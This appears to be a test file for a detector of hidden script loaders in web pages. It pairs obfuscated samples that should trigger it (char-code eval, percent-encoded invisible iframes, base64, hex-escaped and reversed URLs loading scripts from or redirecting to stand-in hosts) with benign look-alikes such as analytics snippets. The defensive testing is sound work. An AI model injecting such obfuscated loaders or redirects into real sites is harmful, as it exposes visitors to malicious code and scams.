import { testCheck } from '../../../test/check-table.ts'
import { page } from '../../../test/evidence.ts'
import check from './hidden-loader.ts'

const code = (script: string) => ({ page: page({ body: `<!doctype html><h1>News</h1><script>${script}</script>` }) })
const base64 = (text: string) => Buffer.from(text).toString('base64')
const codes = (text: string) => [...text].map((one) => one.charCodeAt(0)).join(',')
const percent = (text: string) => [...text].map((one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
const hex = (text: string) => [...text].map((one) => `\\x${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')

testCheck(check, {
  fires: [
    {
      name: 'character codes, run: a script element',
      evidence: code(
        `eval(String.fromCharCode(${codes(`var s=document.createElement('script');s.src='https://trackstat.example/a.js';document.head.appendChild(s)`)}))`,
      ),
      outcome: 'loads',
    },
    {
      name: 'percent signs, written: a frame',
      evidence: code(
        `document.write(unescape('${percent('<iframe src="http://traff.example/in.cgi?2" width=1 height=1></iframe>')}'))`,
      ),
      outcome: 'loads',
    },
    {
      name: 'base64, given to a script element',
      evidence: code(
        `var d=document,s=d.createElement('script');s.src=atob('${base64('https://cdn.bad-host.example/x.js')}');d.head.appendChild(s)`,
      ),
      outcome: 'loads',
    },
    {
      name: 'hexadecimal escapes, as WordPress redirects are injected',
      evidence: code(`window["location"]["href"] = "${hex('https://lottery.example/land')}"`),
      outcome: 'redirects',
    },
    {
      name: 'two layers',
      evidence: code(
        `eval(atob('${base64(`eval(unescape('${percent(`location.replace("https://scam.example/")`)}'))`)}'))`,
      ),
      outcome: 'redirects',
    },
    {
      name: 'reversed',
      evidence: code(
        `var s=document.createElement('script');s.src='${[...'//static.evil-cdn.example/j.js'].reverse().join('')}'.split('').reverse().join('');document.body.appendChild(s)`,
      ),
      outcome: 'loads',
    },
    {
      name: 'a decoder of its own over a long text',
      evidence: code(
        `(function(){function d(s){var r='';for(var i=0;i<s.length;i+=2)r+=String.fromCharCode(parseInt(s.substr(i,2),16)^7);return r}eval(d('${'6f62'.repeat(150)}'))})()`,
      ),
      outcome: 'sealed',
    },
  ],
  silent: [
    {
      name: 'the old snippet of Google Analytics',
      evidence: code(
        `var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www."); document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"))`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a counter written with percent signs around a readable address',
      evidence: code(
        `document.write(unescape("%3Cscript src='https://counter.example/c.js' type='text/javascript'%3E%3C/script%3E"))`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a jQuery plug-in, packed',
      evidence: code(
        `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1.2=3(4){5 6.7(3(){0(6).8({9:4})})}',10,10,'jQuery|fn|fadeNice|function|speed|return|this|each|animate|opacity'.split('|'),0,{}))`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a table of strings as an obfuscator makes it, and nothing else',
      evidence: code(
        `var _0x4b2c=['log','Hello','world'];(function(_0x1a2b3c){console[_0x4b2c[0]](_0x4b2c[1]+' '+_0x4b2c[2])})(1);${Array.from({ length: 30 }, (_, n) => `var _0x${(8192 + n).toString(16)}=${n};`).join('')}`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a late chat',
      evidence: code(
        `setTimeout(function(){var s=document.createElement('script');s.src='https://widget.chatbox.example/loader.js';s.async=1;document.body.appendChild(s)},3000)`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a mail address kept from harvesters',
      evidence: code(`document.write(atob('${base64('<a href="mailto:info@site.test">info@site.test</a>')}'))`),
      verdict: 'pass',
    },
    {
      name: 'an address of the site itself, encoded',
      evidence: code(
        `var s=document.createElement('script');s.src=decodeURIComponent('${percent('https://static.site.test/a.js')}')`,
      ),
      verdict: 'pass',
    },
    {
      name: 'Google Tag Manager',
      evidence: code(
        `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f)})(window,document,'script','dataLayer','GTM-1')`,
      ),
      verdict: 'pass',
    },
    {
      name: 'a state in base64, parsed as data',
      evidence: code(`window.__STATE__ = JSON.parse(atob('${base64(JSON.stringify({ a: 'x'.repeat(600) }))}'))`),
      verdict: 'pass',
    },
    { name: 'a page without code', evidence: { page: page({ body: '<p>nothing' }) }, verdict: 'skip' },
  ],
})
